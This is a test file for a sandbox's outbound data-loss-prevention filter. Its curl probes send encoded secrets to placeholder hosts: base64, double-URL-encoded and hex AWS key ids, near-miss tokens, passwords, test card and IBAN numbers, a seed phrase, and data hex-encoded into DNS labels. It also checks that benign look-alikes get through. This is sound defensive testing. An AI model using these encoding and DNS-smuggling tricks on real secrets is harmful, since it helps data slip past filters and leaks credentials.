/**
 * The outbound DLP from inside a real bottle (issue 13): one probe per category of leak blocked
 * with `dlp_outbound` and the detector that must catch it — near-miss token formats, encoded
 * secrets, generic credentials, financial data, random-looking URL parts, data in the labels of
 * a name under a suffix route and too many such names — and benign look-alikes (a git SHA in a
 * path, a UUID query, a docs URL about card formats, a plain name under the suffix) let through.
 *
 * Each blocked probe would pass wrongly if its detector were off or blind to the form used: the
 * fixture upstream (`tests/helpers/upstream.ts`) would record the request, which every probe
 * checks it did not. Values are made at run time; none is a real credential or account.
 */
import assert from "node:assert/strict";
import { bottleHome } from "../helpers/bottle_home.ts";
import { startProbeBottle } from "../helpers/bottle_probe.ts";
import { engineTest } from "../helpers/engine.ts";
import { startUpstream } from "../helpers/upstream.ts";
import { describeCurl, ProbeKit } from "./probe_kit.ts";

const ECHO = "https://echo.example.test/echo";

function randomFrom(alphabet: string, n: number): string {
  return Array.from(crypto.getRandomValues(new Uint8Array(n)), (b) => alphabet[b % alphabet.length])
    .join("");
}
const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
/** Random bytes as hex (a digest's shape). */
function randomHex(bytes: number): string {
  return Array.from(
    crypto.getRandomValues(new Uint8Array(bytes)),
    (b) => b.toString(16).padStart(2, "0"),
  ).join("");
}
/** Random bytes as base64 (an integrity hash's shape). */
function randomBase64(bytes: number): string {
  return btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(bytes))));
}
const hex = (s: string, sep = "") =>
  [...s].map((c) => c.charCodeAt(0).toString(16).padStart(2, "0")).join(sep);
const pct = (s: string) =>
  [...s].map((c) => "%" + c.charCodeAt(0).toString(16).padStart(2, "0").toUpperCase()).join("");

/** A Luhn-valid Visa-range number (the well-known 4111… test number). */
const TEST_PAN = ["4111", "1111", "1111", "1111"].join(" ");
/** A mod-97-valid IBAN (the ISO 13616 example account). */
const IBAN = ["GB82", "WEST", "1234", "5698", "7654", "32"].join("");
/** The BIP-39 test vector (all-zero entropy): a valid 12-word phrase. */
const SEED = [...Array(11).fill("abandon"), "about"].join(" ");

function manifest(gateway: string, port: number): string {
  const upstream = `"${gateway}:${port}"`;
  return [
    "egress:",
    "  log: 1",
    "  routes:",
    // A manifest route: every detector group on (the default), blocking.
    "    - host: echo.example.test",
    `      upstream: ${upstream}`,
    "      dlp: {outbound_on_match: block}",
    // A suffix route with a small names cap.
    "    - host: '*.sfx.example.test'",
    `      upstream: ${upstream}`,
    "      names_per_minute: 4",
    "      dlp: {outbound_on_match: block}",
  ].join("\n");
}

engineTest(
  "escape suite, DLP: each kind of leak is blocked by its detector; look-alikes pass",
  async (t) => {
    await using upstream = await startUpstream({ extraHosts: ["*.sfx.example.test"] });
    await using home = await bottleHome({});
    await using bottle = await startProbeBottle(
      home,
      manifest(upstream.containerAddress, upstream.port),
    );
    const kit = new ProbeKit(bottle);
    await kit.install();
    const marker = () => `m${randomFrom("abcdefghijklmnopqrstuvwxyz", 10)}`;
    const reached = (m: string) =>
      upstream.requests.some((r) => (r.path + "?" + r.query + r.body).includes(m));

    const step = (name: string, fn: () => Promise<void>) =>
      t.step({ name, fn, sanitizeOps: false, sanitizeResources: false, sanitizeExit: false });

    /** curl `args` (a shell fragment with `MARK` replaced) must meet dlp_outbound by `detector`. */
    const blocked = (name: string, detector: string, args: (m: string) => string) =>
      step(name, async () => {
        const m = marker();
        const r = await kit.curl(args(m));
        await kit.assertCurlBlocked(r, "dlp_outbound");
        const body = JSON.parse(r.stdout);
        assert.equal(body.detector, detector, describeCurl(r));
        assert.equal(reached(m), false, "the request reached the upstream");
      });

    const passes = (name: string, args: (m: string) => string) =>
      step(name, async () => {
        const m = marker();
        const r = await kit.curl(args(m));
        assert.ok(
          r.replies.some((x) => x.where === "response" && x.status === 200),
          describeCurl(r),
        );
        assert.ok(reached(m), "the request did not reach the upstream");
      });

    // ------------------------------------------------------------------ near-miss token formats
    await blocked(
      "a ghp_ token a few chars short of 36, in the query",
      "token_patterns",
      (m) => `'${ECHO}?${m}&t=ghp_${randomFrom(ALNUM, 31)}'`,
    );
    await blocked(
      "a SendGrid key in a header",
      "token_patterns",
      (m) => `'${ECHO}?${m}' -H 'X-Data: SG.${randomFrom(ALNUM, 22)}.${randomFrom(ALNUM, 43)}'`,
    );

    // ------------------------------------------------------------------ encoded secrets
    const aws = ["AK", "IA"].join("") + randomFrom("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16);
    await blocked(
      "an AWS key id, base64 in a JSON body",
      "token_patterns",
      (m) =>
        `-X POST '${ECHO}?${m}' -H 'Content-Type: application/json' ` +
        `--data-binary '{"note":"${btoa(`key=${aws}`)}"}'`,
    );
    await blocked(
      "an AWS key id URL-encoded twice in the path",
      "token_patterns",
      (m) => `'https://echo.example.test/echo/${encodeURIComponent(pct(aws))}?${m}'`,
    );
    await blocked(
      "an AWS key id as hex with colons in a cookie",
      "token_patterns",
      (m) => `'${ECHO}?${m}' -H 'Cookie: theme=dark; d=${hex(aws, ":")}'`,
    );
    // In a header (a query value this random is also an `entropy` finding; a block names the most
    // specific finding, the token, either way: `primaryFinding` in flow.ts).
    await blocked(
      "URL-encoding on top of base64 in a header",
      "token_patterns",
      (m) => `'${ECHO}?${m}' -H 'X-Data: ${encodeURIComponent(btoa(`x ${aws} y`))}'`,
    );

    // ------------------------------------------------------------------ generic credentials
    const pw = "S3" + randomFrom(ALNUM, 12) + "7q";
    await blocked(
      "DATABASE_URL with a password in a form body",
      "credentials",
      (m) =>
        `-X POST '${ECHO}?${m}' --data-urlencode 'env=DATABASE_URL=postgres://app:${pw}@db.example.com/app'`,
    );
    await blocked(
      "a password in a YAML body",
      "credentials",
      (m) =>
        `-X POST '${ECHO}?${m}' -H 'Content-Type: application/yaml' ` +
        `--data-binary $'db:\\n  host: db.example.com\\n  password: ${pw}\\n'`,
    );

    // ------------------------------------------------------------------ financial data
    await blocked(
      "the 4111… test card number in a JSON body",
      "financial",
      (m) =>
        `-X POST '${ECHO}?${m}' -H 'Content-Type: application/json' ` +
        `--data-binary '{"card":"${TEST_PAN}","exp":"12/28"}'`,
    );
    await blocked("an IBAN in the query", "financial", (m) => `'${ECHO}?${m}&iban=${IBAN}'`);
    await blocked(
      "a BIP-39 seed phrase in a CSV body",
      "financial",
      (m) =>
        `-X POST '${ECHO}?${m}' -H 'Content-Type: text/csv' ` +
        `--data-binary 'wallet,words\nmain,${SEED}\n'`,
    );

    // ------------------------------------------------------------------ high-entropy URL parts
    await blocked(
      "a random-looking path segment",
      "entropy",
      (m) => `'https://echo.example.test/echo/q8X${randomFrom(ALNUM, 29)}?${m}'`,
    );

    // ------------------------------------------------------------------ names under a suffix
    await step("data hex-encoded into a label under the suffix", async () => {
      const r = await kit.curl(`'https://${hex("user=" + pw)}.sfx.example.test/echo'`);
      await kit.assertCurlBlocked(r, "dlp_outbound");
      const body = JSON.parse(r.stdout);
      assert.equal(body.detector, "entropy");
      assert.equal(body.location, "hostname");
    });
    await step("a long chain of labels under the suffix", async () => {
      const r = await kit.curl(`'https://a1.b2.c3.d4.e5.sfx.example.test/echo'`);
      await kit.assertCurlBlocked(r, "dlp_outbound");
    });
    await passes(
      "a plain name under the suffix passes",
      (m) => `'https://files.sfx.example.test/echo?${m}'`,
    );
    await step("more distinct names under the suffix than its cap per minute", async () => {
      // files.sfx… counted above; three more fit the cap of 4, the fifth does not.
      for (const name of ["a", "b", "c"]) {
        const r = await kit.curl(`'https://${name}.sfx.example.test/echo'`);
        assert.ok(
          r.replies.some((x) => x.status === 200),
          `${name}: ${describeCurl(r)}`,
        );
      }
      const r = await kit.curl(`'https://d.sfx.example.test/echo'`);
      await kit.assertCurlBlocked(r, "host_not_allowlisted");
      assert.match(JSON.parse(r.stdout).message, /at most 4 distinct names per minute/);
      // A name already seen still passes.
      const again = await kit.curl(`'https://a.sfx.example.test/echo'`);
      assert.ok(
        again.replies.some((x) => x.status === 200),
        describeCurl(again),
      );
    });

    // ------------------------------------------------------------------ benign look-alikes
    await passes(
      "a git SHA in a path passes",
      (m) => `'https://echo.example.test/echo/commits/${randomHex(20)}?${m}'`,
    );
    await passes("a UUID in the query passes", (m) => `'${ECHO}?${m}&id=${crypto.randomUUID()}'`);
    await passes(
      "a docs URL about card formats passes",
      (m) =>
        `'https://echo.example.test/echo/wiki/Payment_card_number?${m}#Issuer_identification_number'`,
    );
    await passes(
      "a typed object id and a lockfile line pass",
      (m) =>
        `-X POST '${ECHO}?${m}&after=msg_${
          randomFrom(ALNUM, 24)
        }' -H 'Content-Type: application/json' ` +
        `--data-binary '{"integrity":"sha512-${randomBase64(64)}"}'`,
    );
  },
);
